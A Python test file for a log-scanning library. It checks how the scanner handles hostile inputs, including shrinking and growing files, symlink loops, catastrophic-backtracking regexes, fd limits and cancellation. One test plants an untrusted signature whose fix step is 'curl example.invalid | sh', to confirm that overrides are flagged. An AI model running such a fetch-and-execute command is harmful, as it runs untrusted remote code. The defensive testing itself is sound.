"""Hostile inputs, concurrency and resource bounds: each case has a defined
outcome (see README, "How files are read, and what can go wrong").

Big inputs are sparse files (holes read as zeros and cost no disk), and
anything that could kill or wedge the interpreter (SIGINT, RLIMIT_NOFILE,
peak-RSS measurements) runs in a subprocess started with ``cwd=tmp_path`` so
that it imports the installed package, not the source tree.
"""

from __future__ import annotations

import gzip
import json
import multiprocessing
import os
import random
import shutil
import subprocess
import sys
import textwrap
import threading
import time
from pathlib import Path

import pyarrow as pa
import pytest
from backports import zstd
from click.testing import CliRunner

import denpex_fast as dx
from denpex_fast.cli import main as cli_main
from denpex_fast.io.sources import display_name, path_from_display

from scan_oracle import oracle, sort_rows, table_rows

PATS = {"oom": ["CUDA out of memory"], "kill": ["SIGKILL"]}
LINE = b"[rank1]: RuntimeError: CUDA out of memory. Tried to allocate 2.00 GiB\n"
MiB, GiB = 1 << 20, 1 << 30


def kinds(res: dx.ScanResult) -> dict[str, str]:
    return {e.path: e.kind for e in res.errors}


def sparse_log(path: Path, size: int, head: bytes = LINE * 1000, lines: bool = True) -> Path:
    """``head`` then zeros up to ``size`` bytes, without writing the zeros;
    ``lines``: a newline every MiB, so the zeros are lines and not one huge line."""
    with open(path, "wb") as f:
        f.write(head)
        f.truncate(size)
        if lines:
            for off in range(MiB, size, MiB):
                f.seek(off)
                f.write(b"\n")
    return path


def is_mapped(path: Path) -> bool:
    """Whether this process has ``path`` memory-mapped (the scan has fstat'ed it)."""
    with open("/proc/self/maps") as f:
        return any(line.rstrip("\n").endswith(str(path)) for line in f)


def rchar() -> int:
    """Bytes this process has read with read() so far (all threads)."""
    with open("/proc/self/io") as f:
        return int(next(x for x in f if x.startswith("rchar")).split()[1])


def wait_for(cond, what: str, timeout: float = 30.0) -> None:
    deadline = time.monotonic() + timeout
    while not cond():
        assert time.monotonic() < deadline, f"timed out waiting for {what}"
        time.sleep(0.001)


def run_py(code: str, cwd: Path, timeout: float = 300) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-c", HWM + textwrap.dedent(code)],
        capture_output=True,
        text=True,
        timeout=timeout,
        cwd=cwd,
    )


HWM = """
def hwm():  # this process's peak RSS in KiB
    return int(next(l for l in open('/proc/self/status') if l.startswith('VmHWM')).split()[1])
"""


# --------------------------------------------------------------- 1. growing log


@pytest.mark.timeout(120)
@pytest.mark.parametrize("mmap", [True, False], ids=["mmap", "read"])
def test_log_growing_during_scan_gives_rows_of_bytes_present_at_open(
    make_scanner, tmp_path: Path, mmap: bool
) -> None:
    p = tmp_path / "live.log"
    p.write_bytes(b"")
    stop = threading.Event()
    rng = random.Random(3)

    def writer() -> None:  # appends whole lines as fast as it can until told to stop
        fd = os.open(p, os.O_WRONLY | os.O_APPEND)
        try:
            i = 0
            while not stop.is_set():
                chunk = b"".join(
                    LINE if (i + k) % 50 == 0 else b"step %d loss %f\n" % (i + k, rng.random())
                    for k in range(500)
                )
                os.write(fd, chunk)
                i += 500
        finally:
            os.close(fd)

    t = threading.Thread(target=writer)
    t.start()
    try:
        wait_for(lambda: p.stat().st_size > 4 * MiB, "the writer")
        before = p.stat().st_size
        # several ranges (mmap) / chunks (read) while the writer keeps appending
        s = make_scanner(PATS, max_rows_per_signature=10**9)  # compare every row
        res = s.run([p], threads=2, mmap=mmap, unit_size=MiB, errors="collect")
    finally:
        stop.set()
        t.join(30)
    data = p.read_bytes()
    scanned = int(res.stats["bytes"])
    assert res.ok, res.errors
    assert before <= scanned <= len(data)
    # exactly the rows of the prefix that existed when the file was opened
    assert sort_rows(table_rows(res.table)) == sort_rows(oracle(data[:scanned], PATS))
    assert res.table.num_rows >= before // 2000  # one match per ~1300 bytes written


# ------------------------------------------------------ 2. truncated / rewritten


@pytest.mark.timeout(120)
def test_truncated_while_mapped_through_run(make_scanner, tmp_path: Path) -> None:
    p = sparse_log(tmp_path / "shrinking.log", 8 * GiB)
    s = make_scanner(PATS)

    def progress(done: int, total: int) -> None:
        # called once the first 256 MiB range (all 1000 rows) is merged; one
        # thread scans the ranges in order, so the next mapping of the file is
        # a range in the middle of its scan (~100 ms each; this polls per ms)
        if not os.path.getsize(p) < total:
            wait_for(lambda: is_mapped(p), "the next range")
            os.truncate(p, MiB)

    res = s.run([p], threads=1, errors="collect", progress=progress)
    assert kinds(res) == {str(p): "truncated"}
    assert res.table.num_rows == 1000  # every row before the cut is kept
    assert res.table.column("line").to_pylist() == list(range(1, 1001))
    assert s.run([p]).table.num_rows == 1000  # the scanner still works


@pytest.mark.timeout(120)
def test_truncated_while_read_through_run(make_scanner, tmp_path: Path) -> None:
    p = sparse_log(tmp_path / "shrinking.log", 8 * GiB)
    s = make_scanner(PATS)
    out: dict = {}
    start = rchar()
    t = threading.Thread(
        target=lambda: out.setdefault("res", s.run([p], threads=2, mmap=False, errors="collect"))
    )
    t.start()
    # 64 MiB read: well inside the file, and past the 1 MiB it is cut to
    wait_for(lambda: rchar() - start > 64 * MiB or not t.is_alive(), "the reads")
    os.truncate(p, MiB)
    t.join(60)
    res = out["res"]
    assert kinds(res) == {str(p): "truncated"}  # EOF before the size at open
    assert res.table.num_rows == 1000


@pytest.mark.timeout(120)
@pytest.mark.parametrize("mmap", [True, False], ids=["mmap", "read"])
def test_file_rewritten_shorter_and_longer_while_scanned(
    make_scanner, tmp_path: Path, mmap: bool
) -> None:
    p = tmp_path / "rewritten.log"
    p.write_bytes(LINE * 20_000)
    stop = threading.Event()

    def rewriter() -> None:  # truncate-and-rewrite, alternating short and long content
        n = 0
        while not stop.is_set():
            with open(p, "r+b") as f:
                f.truncate(0)
                f.write(LINE * (2_000 if n % 2 else 40_000))
            n += 1

    t = threading.Thread(target=rewriter)
    t.start()
    seen: set[str] = set()
    try:
        s = make_scanner(PATS)
        for _ in range(60):
            res = s.run([p], threads=2, mmap=mmap, unit_size=256 << 10, errors="collect")
            # defined: rows, or a `truncated` error with the rows before it
            assert set(kinds(res).values()) <= {"truncated"}, res.errors
            seen.update(kinds(res).values() or {"ok"})
            assert all("CUDA out of memory" in x for x in res.table.column("text").to_pylist())
    finally:
        stop.set()
        t.join(30)
    assert seen  # the process survived every scan (no SIGBUS death)


# ----------------------------------------------------------- 3. a 1 GB line


@pytest.mark.timeout(300)
@pytest.mark.parametrize("mmap", [True, False], ids=["mmap", "read"])
def test_one_gigabyte_line_is_found_with_bounded_memory(tmp_path: Path, mmap: bool) -> None:
    p = tmp_path / "oneline.log"
    tail = b"x CUDA out of memory tail\n"
    with open(p, "wb") as f:  # "start " + zeros + match, all on line 1
        f.write(b"start ")
        f.truncate(GiB)
        f.seek(GiB - 100)
        f.write(tail)
    end = GiB - 100 + tail.index(b"memory") + len(b"memory")
    proc = run_py(
        f"""
        import json, denpex_fast as dx
        s = dx.Scanner(patterns={{"oom": "CUDA out of memory"}}, cache_dir=False, max_text=64)
        before = hwm()
        r = s.run([{str(p)!r}], threads=2, mmap={mmap})
        print(json.dumps([r.table.select(["line", "offset", "match_end", "text"]).to_pylist(),
                          (hwm() - before) * 1024, r.ok]))
    """,
        tmp_path,
    )
    assert proc.returncode == 0, proc.stderr
    rows, grown, ok = json.loads(proc.stdout)
    # the text window of a very long line: the max_text bytes ending at the match
    window = (b"\0" * 64 + b"x CUDA out of memory")[-64:].decode()
    assert rows == [{"line": 1, "offset": 0, "match_end": end, "text": window}] and ok
    assert grown < 200 * MiB, grown


# --------------------------------------------------------------- 4. binary files


@pytest.mark.timeout(60)
def test_binary_files_scan_cleanly_with_valid_utf8_text(make_scanner, tmp_path: Path) -> None:
    rng = random.Random(7)
    noise = tmp_path / "noise.bin"
    blob = bytearray(rng.randbytes(4 * MiB))
    for off in range(1000, len(blob) - 100, 200_000):  # plant matches amid random bytes
        blob[off : off + 18] = b"CUDA out of memory"
    noise.write_bytes(bytes(blob))
    elf = tmp_path / "ls"
    shutil.copyfile(shutil.which("ls") or "/bin/ls", elf)
    pats = {"oom": ["CUDA out of memory"], "elf": ["ELF"], "glibc": [r"GLIBC_2\.[0-9]+"]}
    res = make_scanner(pats).run([noise, elf], errors="collect", binary=True)
    assert res.ok
    text = res.table.column("text")
    text.validate(full=True)  # Arrow checks every string is valid UTF-8
    assert all(isinstance(x, str) and x.encode("utf-8") for x in text.to_pylist())
    for path, data in ((noise, bytes(blob)), (elf, elf.read_bytes())):
        got = res.table.filter(pa.compute.equal(res.table["file"].cast(pa.string()), str(path)))
        assert [r[:4] for r in sort_rows(table_rows(got))] == [
            r[:4] for r in sort_rows(oracle(data, pats))
        ]
    assert set(res.table.column("signature").to_pylist()) == {"oom", "elf", "glibc"}


# -------------------------------------------------------------------- 5. symlinks


def _link_tree(tmp_path: Path) -> tuple[Path, Path]:
    root, outside = tmp_path / "root", tmp_path / "outside"
    (root / "a").mkdir(parents=True)
    outside.mkdir()
    (root / "a" / "f.log").write_bytes(LINE)
    (outside / "o.log").write_bytes(LINE)
    os.symlink("..", root / "a" / "loop")  # back to root: a cycle
    os.symlink(".", root / "a" / "self")  # to itself
    os.symlink(outside, root / "out")  # a directory outside the tree
    os.symlink(outside / "o.log", root / "flink")  # a file outside the tree
    os.symlink(tmp_path / "nowhere", root / "broken")
    return root, outside


@pytest.mark.timeout(30)
def test_symlinks_are_skipped_by_default(make_scanner, tmp_path: Path) -> None:
    root, _ = _link_tree(tmp_path)
    res = make_scanner(PATS).run([root], errors="collect")
    assert res.ok
    assert res.table.column("file").to_pylist() == [str(root / "a" / "f.log")]


@pytest.mark.timeout(30)
def test_symlinks_followed_enter_each_directory_once(make_scanner, tmp_path: Path) -> None:
    root, _ = _link_tree(tmp_path)
    res = make_scanner(PATS).run([root], errors="collect", follow_symlinks=True)
    assert sorted(res.table.column("file").to_pylist()) == sorted(
        [str(root / "a" / "f.log"), str(root / "flink"), str(root / "out" / "o.log")]
    )
    assert kinds(res) == {str(root / "broken"): "open"}


# ------------------------------------------------------ 6. 100 000 files, one dir


@pytest.mark.timeout(180)
def test_hundred_thousand_files_in_one_directory(make_scanner, tmp_path: Path) -> None:
    d = tmp_path / "many"
    d.mkdir()
    n = 100_000
    flags = os.O_WRONLY | os.O_CREAT | os.O_EXCL
    for i in range(n):  # raw syscalls: ~3 s for 100k files
        fd = os.open(d / f"f{i:06d}.log", flags, 0o644)
        os.write(fd, b"ok\n" + (LINE if i % 7 == 0 else b""))
        os.close(fd)
    fds_before = len(os.listdir("/proc/self/fd"))
    t0 = time.monotonic()
    res = make_scanner(PATS).run([d], threads=2)
    elapsed = time.monotonic() - t0
    assert len(os.listdir("/proc/self/fd")) == fds_before  # no descriptor leaked
    assert res.stats["files"] == n and res.ok
    files = res.table.column("file").to_pylist()
    assert files == [str(d / f"f{i:06d}.log") for i in range(0, n, 7)]
    assert set(res.table.column("line").to_pylist()) == {2}
    assert elapsed < 60, elapsed


# ------------------------------------------------------------ 7. awkward names


def test_newline_and_invalid_utf8_names_round_trip(make_scanner, tmp_path: Path) -> None:
    d = os.fsencode(tmp_path / "names")
    os.mkdir(d)
    raw_names = [b"new\nline.log", b"bad\xff\xfe.log", b"back\\slash.log", b"tab\there.log"]
    for name in raw_names:
        with open(os.path.join(d, name), "wb") as f:
            f.write(b"x\n" + LINE)
    expected = {display_name(os.path.join(d, n)) for n in raw_names}
    # the documented escapes: one line, valid UTF-8
    base = display_name(d)
    assert expected == {
        base + "/new\\nline.log",
        base + "/bad\\xff\\xfe.log",
        base + "/back\\\\slash.log",
        base + "/tab\\there.log",
    }
    res = make_scanner(PATS).run([d])
    names = res.table.column("file").to_pylist()
    assert set(names) == expected
    for name in names:  # a user maps the display form back to the file
        assert os.path.exists(path_from_display(name))
        assert "\n" not in name and name.encode("utf-8")

    env = {"DENPEX_CACHE_DIR": str(tmp_path / "cache")}
    r = CliRunner(env=env).invoke(
        cli_main, ["scan", os.fsdecode(d), "-e", "oom=CUDA out of"], catch_exceptions=False
    )
    assert r.exit_code == 0
    lines = r.stdout.splitlines()
    assert len(lines) == len(raw_names)  # grep-style output: one line per match
    assert {ln.rsplit(":2:oom:", 1)[0] for ln in lines} == expected
    r = CliRunner(env=env).invoke(
        cli_main,
        ["scan", os.fsdecode(d), "--json", "-e", "oom=CUDA out of"],
        catch_exceptions=False,
    )
    msgs = [json.loads(x) for x in r.stdout.splitlines()]
    assert {m["data"]["path"]["text"] for m in msgs if m["type"] == "match"} == expected


def test_error_path_of_awkward_name_is_escaped(make_scanner, tmp_path: Path) -> None:
    missing = os.path.join(os.fsencode(tmp_path), b"gone\n\xff.log")
    res = make_scanner(PATS).run([missing], errors="collect")
    assert kinds(res) == {display_name(missing): "open"}
    assert path_from_display(res.errors[0].path) == missing


# ------------------------------------------------------------ 8. hostile patterns

HUGE = "|".join(f"lit{i:06d}x" for i in range(10_000))  # 109 999 characters


@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    "pattern",
    [
        HUGE,
        "(a|aa)*b",
        "(a+)+$",
        "((a*)*b)*c",
        "(x+x+)+y",
        "a{1000,}b",
        "[a-z]{20000}",
        "(ab|c){1000,5000}x",
    ],
    ids=[
        "huge-alternation",
        "alt-star",
        "nested-plus",
        "nested-star",
        "xx-plus",
        "bounded-1000-up",
        "bounded-20000",
        "bounded-1000-5000",
    ],
)
def test_hostile_pattern_compiles_or_fails_clearly(make_scanner, pattern: str) -> None:
    try:
        s = make_scanner({"ok": ["fine"], "hostile": [pattern]})
    except dx.PatternError as exc:
        assert exc.signature == "hostile" and exc.index == 0 and exc.hs_message
        assert "hostile" in str(exc) and len(str(exc)) < 500  # readable, not 100 KB
        return
    # compiled: Hyperscan scans in linear time, even the input that makes
    # backtracking engines explode
    data = b"a" * (4 * MiB) + b"\n" + b"x" * (1 * MiB) + b"\nfine\n"
    t = s.scan_bytes(data)
    assert "ok" in t.column("signature").to_pylist()


def test_huge_alternation_is_refused_with_a_short_message(make_scanner) -> None:
    with pytest.raises(dx.PatternError) as ei:
        make_scanner({"big": [HUGE]})
    assert "exceeds" in ei.value.hs_message and f"({len(HUGE)} characters)" in str(ei.value)


def test_empty_matching_pattern_is_refused(make_scanner) -> None:
    with pytest.raises(dx.PatternError, match="empty") as ei:
        make_scanner({"ok": ["fine"], "empty": ["(x|)"]})
    assert ei.value.signature == "empty"


@pytest.mark.timeout(60)
def test_hostile_pattern_in_a_signature_file_names_file_and_id(tmp_path: Path) -> None:
    from test_signature_loader import entry, write

    path = write(
        tmp_path / "demo.toml", [entry("demo-one"), entry("demo-huge", patterns=["fine", HUGE])]
    )
    # refused when loading (dx.load_signatures compiles) and when compiling a loaded set
    with pytest.raises(dx.SignatureError) as at_load:
        dx.load_signatures([path], builtin=False)
    kb = dx.load_signatures([path], builtin=False, validate_patterns=False)
    with pytest.raises(dx.SignatureError) as at_compile:
        dx.Scanner(kb, cache_dir=False)
    for ei in (at_load, at_compile):
        msg = str(ei.value)
        assert str(path) in msg and "demo-huge" in msg and "patterns[1]" in msg
        assert len(msg) < 600


# ---------------------------------------------------------------- 9. concurrency


@pytest.mark.timeout(120)
def test_threads_sharing_one_scanner_match_sequential_scans(make_scanner, tmp_path: Path) -> None:
    rng = random.Random(11)
    files = []
    for k in range(4):
        p = tmp_path / f"r{k}.log"
        p.write_bytes(
            b"".join(
                LINE
                if rng.random() < 0.01
                else b"SIGKILL %d\n" % i
                if rng.random() < 0.01
                else b"step %d\n" % i
                for i in range(200_000)
            )
        )
        files.append(p)
    s = make_scanner(PATS)
    # threads 0-3: a different file each; 4-7: all the same file, concurrently
    plans = [[files[k]] for k in range(4)] + [[files[0], files[1]]] * 4
    want = [table_rows(s.run(plan, threads=1, unit_size=MiB).table) for plan in plans]
    got: list = [None] * len(plans)
    barrier = threading.Barrier(len(plans))

    def work(i: int) -> None:
        barrier.wait()
        for _ in range(3):
            rows = table_rows(s.run(plans[i], threads=2, unit_size=MiB).table)
            assert got[i] is None or got[i] == rows
            got[i] = rows

    threads = [threading.Thread(target=work, args=(i,)) for i in range(len(plans))]
    for t in threads:
        t.start()
    for t in threads:
        t.join(100)
    assert got == want


@pytest.mark.timeout(120)
@pytest.mark.parametrize("mmap", [True, False], ids=["mmap", "read"])
def test_cancel_from_another_thread_stops_promptly(
    make_scanner, tmp_path: Path, mmap: bool
) -> None:
    p = sparse_log(tmp_path / "huge.log", 16 * GiB)  # a full scan takes many seconds
    s = make_scanner(PATS)
    flag = dx.CancelFlag()
    started = threading.Event()
    cancelled_at: list[float] = []

    def progress(done: int, total: int) -> None:  # mmap: the first range is merged
        started.set()

    def canceller() -> None:
        if mmap:
            started.wait(60)
        else:  # read: once 64 MiB have been read (the head rows are scanned)
            start = rchar()
            wait_for(lambda: rchar() - start > 64 * MiB, "the reads")
        cancelled_at.append(time.monotonic())
        flag.set()

    t = threading.Thread(target=canceller)
    t.start()
    res = s.run([p], threads=2, mmap=mmap, errors="collect", cancel=flag, progress=progress)
    returned = time.monotonic()
    t.join(10)
    assert returned - cancelled_at[0] < 1.0  # a full scan of the file takes > 10 s
    assert kinds(res) == {str(p): "cancelled"}
    assert res.table.num_rows == 1000  # rows found before the cancel are returned
    assert res.stats["bytes"] < 4 * GiB


@pytest.mark.timeout(120)
@pytest.mark.parametrize("lines", [True, False], ids=["lines", "one-huge-line"])
def test_keyboard_interrupt_stops_a_big_scan_cleanly(tmp_path: Path, lines: bool) -> None:
    p = sparse_log(tmp_path / "huge.log", 16 * GiB, lines=lines)
    proc = run_py(
        f"""
        import os, signal, threading, time
        import denpex_fast as dx
        s = dx.Scanner(patterns={{"oom": "CUDA out of memory"}}, cache_dir=False)
        sent = []
        def interrupt():
            time.sleep(0.5)
            sent.append(time.monotonic())
            os.kill(os.getpid(), signal.SIGINT)
        threading.Thread(target=interrupt, daemon=True).start()
        try:
            s.run([{str(p)!r}], threads=2)
        except KeyboardInterrupt:
            print("interrupted", round(time.monotonic() - sent[0], 3))
            # the scanner is still usable afterwards
            print(s.scan_bytes(b"CUDA out of memory\\n").num_rows)
        else:
            print("finished")
    """,
        tmp_path,
        timeout=100,
    )
    assert proc.returncode == 0, proc.stderr
    out = proc.stdout.split()
    assert out[0] == "interrupted" and float(out[1]) < 1.5, proc.stdout
    assert out[2] == "1"


_FORK_SCANNER: dx.Scanner | None = None


def _scan_in_child(path: str) -> tuple[int, bool, list, list]:
    s = _FORK_SCANNER
    assert s is not None
    # this worker's main thread is a copy of the parent's, scratch included
    inherited = s._local.scratch.pid != os.getpid()
    rows = table_rows(s.run([path], threads=2, unit_size=MiB).table)
    direct = table_rows(s.scan_bytes(Path(path).read_bytes(), name=path))  # this thread
    assert s._local.scratch.pid == os.getpid()  # re-created, not the parent's
    return os.getpid(), inherited, rows, direct


@pytest.mark.timeout(120)
def test_forked_workers_get_their_own_scratch(make_scanner, tmp_path: Path) -> None:
    global _FORK_SCANNER
    files = []
    for k in range(4):
        p = tmp_path / f"w{k}.log"
        p.write_bytes((b"step\n" * (k + 1) + LINE + b"SIGKILL\n") * 20_000)
        files.append(str(p))
    _FORK_SCANNER = make_scanner(PATS)
    want = [table_rows(_FORK_SCANNER.run([f]).table) for f in files]
    assert _FORK_SCANNER.scan_bytes(LINE).num_rows == 1  # a scratch in this thread
    try:
        with multiprocessing.get_context("fork").Pool(2) as pool:
            got = pool.map(_scan_in_child, files * 2)
    finally:
        _FORK_SCANNER = None
    # each worker's first task found the parent's scratch and replaced it
    assert {pid for pid, inherited, _, _ in got if inherited} == {pid for pid, *_ in got}
    assert [rows for _, _, rows, _ in got] == want * 2
    assert [direct for *_, direct in got] == want * 2


# ------------------------------------------------- 10. descriptors on every path


@pytest.mark.timeout(300)
def test_descriptors_closed_on_every_path_under_a_low_fd_limit(tmp_path: Path) -> None:
    d = tmp_path / "job"
    d.mkdir()
    for i in range(300):
        (d / f"r{i:03d}.log").write_bytes(b"x\n" + LINE)
    for i in range(20):
        (d / f"g{i:02d}.log.gz").write_bytes(gzip.compress(b"x\n" + LINE))
    body = b"".join(b"step %d\n" % i + (LINE if i % 100 == 0 else b"") for i in range(50_000))
    bad = tmp_path / "bad"
    bad.mkdir()
    (bad / "corrupt.gz").write_bytes(b"\x1f\x8b\x08\x00" + os.urandom(4000))
    z = zstd.compress(body)
    (bad / "cut.zst").write_bytes(z[: len(z) // 2])
    os.mkfifo(bad / "fifo")
    missing = tmp_path / "missing.log"
    proc = run_py(
        f"""
        import os, resource
        resource.setrlimit(resource.RLIMIT_NOFILE, (64, 64))
        import denpex_fast as dx
        s = dx.Scanner(patterns={{"oom": "CUDA out of memory"}}, cache_dir=False)
        fds = len(os.listdir("/proc/self/fd"))
        paths = [{str(d)!r}, {str(bad)!r}, {str(missing)!r}]
        for rnd in range(5):
            for mmap in (True, False):
                r = s.run(paths, threads=2, mmap=mmap, errors="collect")
                kinds = sorted((os.path.basename(e.path), e.kind) for e in r.errors)
                print(rnd, mmap, r.table.num_rows, kinds)
            for _ in zip(range(3), s.iter_batches(paths, threads=2)):
                pass  # a consumer that stops early
        print("fds", fds, len(os.listdir("/proc/self/fd")))
    """,
        tmp_path,
    )
    assert proc.returncode == 0, proc.stderr
    assert "Too many open files" not in proc.stdout + proc.stderr
    lines = proc.stdout.splitlines()
    want = str(
        [
            ("corrupt.gz", "corrupt"),
            ("cut.zst", "corrupt"),
            ("fifo", "not-regular"),
            ("missing.log", "open"),
        ]
    )
    body_rows = 320 + 0  # one match per good file; the damaged ones end before theirs
    for line in lines[:-1]:
        rnd, mmap, rows, rest = line.split(" ", 3)
        assert rest == want, line
        assert int(rows) >= body_rows, line
    fds = lines[-1].split()
    assert fds[1] == fds[2], lines[-1]


# ------------------------------------------------------------- 11. peak memory


@pytest.mark.timeout(300)
def test_flood_across_signatures_and_files_streams_in_bounded_memory(tmp_path: Path) -> None:
    """10 million matching lines (x3 signatures) in 2 files, consumed with
    iter_batches: peak RSS does not grow with the number of matches."""
    paths = []
    for k in range(2):
        p = tmp_path / f"flood{k}.log"
        with open(p, "wb") as f:
            chunk = b"NCCL WARN flood\n" * 100_000
            for _ in range(50):
                f.write(chunk)
        paths.append(str(p))
    proc = run_py(
        f"""
        import denpex_fast as dx
        s = dx.Scanner(patterns={{"w": "NCCL WARN", "f": "WARN flood", "e": "flood$"}},
                       cache_dir=False, max_rows_per_signature=1000)
        before = hwm()
        rows = 0
        per = {{}}
        for batch in s.iter_batches({paths!r}, threads=2):
            rows += batch.num_rows
            for f, sig in zip(batch.column("file").to_pylist(),
                              batch.column("signature").to_pylist()):
                per[(f, sig)] = per.get((f, sig), 0) + 1
        print(rows, len(per), set(per.values()), (hwm() - before) * 1024)
    """,
        tmp_path,
    )
    assert proc.returncode == 0, proc.stderr
    rows, groups, *rest = proc.stdout.split(maxsplit=2)
    per_values, grown = rest[0].rsplit(" ", 1)
    assert int(rows) == 6000 and int(groups) == 6 and per_values == "{1000}"
    assert int(grown) < 100 * MiB, grown


@pytest.mark.timeout(120)
def test_a_backtracking_fields_regex_cannot_hang_the_diagnosis(tmp_path: Path) -> None:
    # ((?:a|a)+)$ takes exponential time in a backtracking engine on a line of
    # a's ending in b; fields run on RE2, in time linear in the line
    from test_signature_loader import entry, write

    kb_file = write(
        tmp_path / "bt.toml",
        [entry("demo-bt", patterns=["DemoFailureMarker"], fields={"run": "((?:a|a)+)$"})],
    )
    log = tmp_path / "job.log"
    log.write_text("DemoFailureMarker " + "a" * 40 + "b\n" + "DemoFailureMarker aaaa\n")
    from denpex_fast.analysis.diagnosis import diagnose_table

    kb = dx.load_signatures([kb_file], builtin=False)
    t0 = time.monotonic()
    table = dx.Scanner(kb, cache_dir=False).scan([str(log)])
    d = diagnose_table(table, signatures=kb)
    assert time.monotonic() - t0 < 30
    assert d.initiating is not None and d.initiating.signature == "demo-bt"
    assert kb["demo-bt"].extract_fields("DemoFailureMarker aaaa") == {"run": "aaaa"}


def test_a_fields_regex_re2_cannot_run_is_refused_at_load(tmp_path: Path) -> None:
    from test_signature_loader import entry, write

    kb_file = write(tmp_path / "br.toml", [entry("demo-br", fields={"twice": r"(\w)\1"})])
    with pytest.raises(dx.SignatureError, match=r"demo-br.*fields\.twice.*RE2"):
        dx.load_signatures([kb_file], builtin=False)


def test_a_project_entry_that_replaces_a_builtin_fix_is_marked(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # an untrusted tree's pyproject.toml replaces a built-in entry (here its
    # verify step): the diagnosis still uses it, and says so wherever the fix shows
    import io

    from rich.console import Console
    from test_signature_loader import entry, write

    from denpex_fast.report import render_text, to_markdown

    def text(d: object) -> str:
        buf = io.StringIO()
        render_text(d, Console(file=buf, width=200))  # type: ignore[arg-type]
        return buf.getvalue()

    kb_dir = tmp_path / "kb"
    write(
        kb_dir / "evil.toml",
        [entry("cuda-oom", patterns=["CUDA out of memory"], verify="curl example.invalid | sh")],
    )
    (tmp_path / "pyproject.toml").write_text('[tool.denpex_fast]\nsignatures = ["kb"]\n')
    log = tmp_path / "rank0.log"
    log.write_text("[rank0]: torch.OutOfMemoryError: CUDA out of memory. Tried to allocate\n")
    monkeypatch.chdir(tmp_path)
    kb = dx.load_signatures()
    # its own scanner: the process-wide default one may predate this working directory
    d = dx.diagnose([str(log)], scanner=dx.Scanner(kb, cache_dir=False))
    assert d.fix is not None and d.fix["id"] == "cuda-oom"
    doc = d.to_dict()
    assert doc["fix_overrides"] and doc["fix_overrides"].endswith(".toml")
    assert "evil.toml" in text(d) and "replaces the entry 'cuda-oom'" in text(d)
    assert "replaces the entry 'cuda-oom'" in to_markdown(d)
    assert dx.load_signatures()["cuda-oom"].overrides.endswith("cuda.toml")
    # the shipped entry is not marked
    monkeypatch.chdir(tmp_path.parent)
    assert dx.load_signatures()["cuda-oom"].overrides == ""
